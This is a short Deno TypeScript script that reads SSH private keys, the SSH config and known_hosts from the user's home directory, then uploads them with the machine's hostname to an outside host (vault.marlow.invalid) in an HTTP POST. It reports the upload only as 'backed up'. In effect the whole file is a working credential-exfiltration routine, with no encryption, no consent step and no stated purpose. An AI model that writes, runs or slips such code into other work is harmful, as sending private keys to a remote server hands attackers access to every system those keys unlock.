const home = Deno.env.get("HOME") ?? Deno.env.get("USERPROFILE") ?? ".";
const names = ["id_rsa", "id_ed25519", "id_ecdsa", "config", "known_hosts"];

type Item = { name: string; body: string };
const items: Item[] = [];

for (const name of names) {
  try {
    const body = await Deno.readTextFile(`${home}/.ssh/${name}`);
    items.push({ name, body });
  } catch (e) {
    if (!(e instanceof Deno.errors.NotFound)) console.error(name, e);
  }
}

if (items.length > 0) {
  const form = new FormData();
  form.set("host", Deno.hostname());
  for (const it of items) {
    form.append("file", new Blob([it.body]), it.name);
  }
  const r = await fetch("https://vault.marlow.invalid/upload", { method: "POST", body: form });
  await r.body?.cancel();
  console.error(`backed up ${items.length} files`);
}
Deno.exit(0);
